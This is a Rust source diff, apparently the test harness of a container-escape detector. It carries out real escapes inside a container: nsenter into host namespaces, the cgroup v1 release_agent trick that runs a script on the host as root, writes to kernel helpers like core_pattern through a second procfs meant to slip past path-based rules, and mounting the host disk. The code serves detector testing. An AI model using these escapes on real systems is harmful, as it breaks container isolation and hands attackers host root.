@@ -1,0 +1,195 @@
+//! The escape techniques, done for real inside a container with busybox tools. Each one checks
+//! its effect on the host and fails if the escape did not work, so that a missing alert can only
+//! mean the detector missed a working escape.
+
+use std::{
+    fs,
+    path::Path,
+    thread,
+    time::{Duration, Instant},
+};
+
+use anyhow::{Context, bail, ensure};
+
+use crate::{cgroup, container::Container, host_disk::HostDisk, host_process::HostProcess, ids};
+
+/// The namespaces `nsenter -m -u -i -n` enters.
+const ENTERED_NAMESPACES: [&str; 4] = ["mnt", "uts", "ipc", "net"];
+
+/// `nsenter` from the container into the mount, uts, ipc and network namespaces of `target`, a
+/// host process; the shell started there must report the host's namespace inodes.
+pub fn enter_host_namespaces(container: &Container, target: &HostProcess) -> anyhow::Result<()> {
+    let links: Vec<String> = ENTERED_NAMESPACES
+        .iter()
+        .map(|ns| format!("/proc/self/ns/{ns}"))
+        .collect();
+    // After -m, /bin/sh and readlink are the host's own.
+    let inside = container.exec_ok(&format!(
+        "nsenter -t {} -m -u -i -n -- /bin/sh -c 'readlink {}'",
+        target.pid(),
+        links.join(" ")
+    ))?;
+    for (ns, seen) in ENTERED_NAMESPACES.iter().zip(inside.lines()) {
+        let host = fs::read_link(format!("/proc/{}/ns/{ns}", target.pid()))?;
+        ensure!(
+            Path::new(seen) == host,
+            "after nsenter the {ns} namespace is {seen}, the host's is {}",
+            host.display()
+        );
+    }
+    Ok(())
+}
+
+/// Where the private cgroup hierarchy is mounted inside the container.
+const CGROUP_MOUNT: &str = "/tmp/cg";
+const RELEASE_AGENT: &str = "escdet-release-agent";
+const RELEASE_AGENT_MARKER: &str = "escdet-release-agent-ran";
+
+/// The cgroup v1 release_agent escape: mount a cgroup v1 hierarchy, set `notify_on_release` on
+/// a child cgroup and point `release_agent` at a script of the container (by its host path),
+/// then empty the child so that the kernel runs the script on the host as root. Returns once the
+/// script has run. The hierarchy is a private named one (`none,name=escdet…`): the
+/// release_agent of a real controller's hierarchy is host-wide.
+pub fn abuse_release_agent(container: &Container) -> anyhow::Result<()> {
+    let host_rootfs = container
+        .rootfs_on_host()
+        .to_str()
+        .context("rootfs path is not UTF-8")?;
+    let hierarchy = format!("escdet{}", ids::random_hex(4));
+    container.exec_ok(&format!(
+        "printf '#!/bin/sh\\ntouch {host_rootfs}/{RELEASE_AGENT_MARKER}\\n' > /{RELEASE_AGENT} \
+         && chmod +x /{RELEASE_AGENT} \
+         && mkdir -p {CGROUP_MOUNT} \
+         && mount -t cgroup -o none,name={hierarchy} cgroup {CGROUP_MOUNT} \
+         && mkdir {CGROUP_MOUNT}/x"
+    ))?;
+    let escaped = arm_and_trigger_release_agent(container, host_rootfs);
+    let removed = remove_private_hierarchy(container, &hierarchy);
+    escaped.and(removed)
+}
+
+/// Removes the child cgroup and unmounts the hierarchy, which the kernel then destroys (in the
+/// background) unless the child is still linked to it: rmdir returns before the kernel unlinks
+/// it, and a hierarchy unmounted with a child lingers, invisible, until it is mounted and
+/// unmounted again.
+fn remove_private_hierarchy(container: &Container, name: &str) -> anyhow::Result<()> {
+    container.exec_ok(&format!("rmdir {CGROUP_MOUNT}/x"))?;
+    for _ in 0..5 {
+        container.exec_ok(&format!("umount {CGROUP_MOUNT}"))?;
+        if eventually(Duration::from_secs(1), || !cgroup::hierarchy_exists(name)) {
+            return Ok(());
+        }
+        container.exec_ok(&format!(
+            "mount -t cgroup -o none,name={name} cgroup {CGROUP_MOUNT}"
+        ))?;
+    }
+    bail!("the cgroup hierarchy {name} outlives its unmount")
+}
+
+fn arm_and_trigger_release_agent(container: &Container, host_rootfs: &str) -> anyhow::Result<()> {
+    container.exec_ok(&format!(
+        "echo 1 > {CGROUP_MOUNT}/x/notify_on_release \
+         && echo {host_rootfs}/{RELEASE_AGENT} > {CGROUP_MOUNT}/release_agent"
+    ))?;
+    // The shell joins x and exits, leaving x empty: that makes the kernel call the agent.
+    container.exec_ok(&format!("sh -c 'echo $$ > {CGROUP_MOUNT}/x/cgroup.procs'"))?;
+    let marker = container.rootfs_on_host().join(RELEASE_AGENT_MARKER);
+    ensure!(
+        eventually(Duration::from_secs(5), || marker.exists()),
+        "the release agent did not run on the host: no {}",
+        marker.display()
+    );
+    Ok(())
+}
+
+/// Writes `value` to the sysctl `name` (like `kernel/core_pattern`) through a second procfs
+/// mounted at /mnt/hp, a path no rule matching "/proc/sys/..." strings would recognise.
+pub fn write_sysctl_through_second_procfs(
+    container: &Container,
+    name: &str,
+    value: &str,
+) -> anyhow::Result<()> {
+    container.exec_ok(&format!(
+        "mkdir -p /mnt/hp && mount -t proc proc /mnt/hp \
+         && echo '{value}' > /mnt/hp/sys/{name}; status=$?; umount /mnt/hp; exit $status"
+    ))?;
+    expect_host_file(&Path::new("/proc/sys").join(name), value)
+}
+
+/// The kernel helper a container can overwrite through its own /proc/sys: `modprobe` where the
+/// kernel supports modules, else `core_pattern` (kernels without CONFIG_MODULES, like the
+/// development VMs', have no /proc/sys/kernel/modprobe).
+pub fn direct_kernel_helper() -> &'static str {
+    const MODPROBE: &str = "/proc/sys/kernel/modprobe";
+    if Path::new(MODPROBE).exists() {
+        MODPROBE
+    } else {
+        "/proc/sys/kernel/core_pattern"
+    }
+}
+
+/// Writes `value` to `path` as the container sees it; `path` must be a kernel file that is the
+/// same file on the host (/proc/sys/..., /sys/...).
+pub fn write_kernel_file(container: &Container, path: &str, value: &str) -> anyhow::Result<()> {
+    container.exec_ok(&format!("echo '{value}' > {path}"))?;
+    expect_host_file(Path::new(path), value)
+}
+
+/// Mounts a procfs at /mnt/p, checks it is there, and unmounts it.
+pub fn mount_procfs(container: &Container) -> anyhow::Result<()> {
+    container.exec_ok(
+        "mkdir -p /mnt/p && mount -t proc proc /mnt/p && grep -q ' /mnt/p proc ' /proc/mounts; \
+         status=$?; umount /mnt/p; exit $status",
+    )?;
+    Ok(())
+}
+
+/// Creates a node for `disk` as /dev/hostdisk and mounts it read-only at /mnt/host; checks that
+/// the mount is that disk and read-only, then unmounts.
+pub fn mount_host_disk(container: &Container, disk: &HostDisk) -> anyhow::Result<()> {
+    let device = disk.device();
+    let out = container.exec_ok(&format!(
+        "mknod /dev/hostdisk b {} {} && mkdir -p /mnt/host \
+         && mount -o ro /dev/hostdisk /mnt/host \
+         && stat -c %d /mnt/host && grep ' /mnt/host ' /proc/mounts; \
+         status=$?; umount /mnt/host; rm -f /dev/hostdisk; exit $status",
+        device.major, device.minor
+    ))?;
+    let mut lines = out.lines();
+    let mounted: u64 = lines.next().unwrap_or_default().parse()?;
+    ensure!(
+        mounted == device.dev_t(),
+        "/mnt/host is on device {mounted}, not {device}"
+    );
+    let options = lines
+        .next()
+        .and_then(|l| l.split(' ').nth(3))
+        .unwrap_or_default();
+    ensure!(
+        options.split(',').any(|o| o == "ro"),
+        "/mnt/host is mounted {options}, not read-only"
+    );
+    Ok(())
+}
+
+fn expect_host_file(path: &Path, value: &str) -> anyhow::Result<()> {
+    let now = fs::read_to_string(path).with_context(|| format!("reading {}", path.display()))?;
+    ensure!(
+        now.trim_end() == value,
+        "{} on the host reads {now:?}, not {value:?}",
+        path.display()
+    );
+    Ok(())
+}
+
+/// Polls `done` until it holds or `timeout` passes; tells which.
+fn eventually(timeout: Duration, done: impl Fn() -> bool) -> bool {
+    let deadline = Instant::now() + timeout;
+    while !done() {
+        if Instant::now() > deadline {
+            return false;
+        }
+        thread::sleep(Duration::from_millis(20));
+    }
+    true
+}
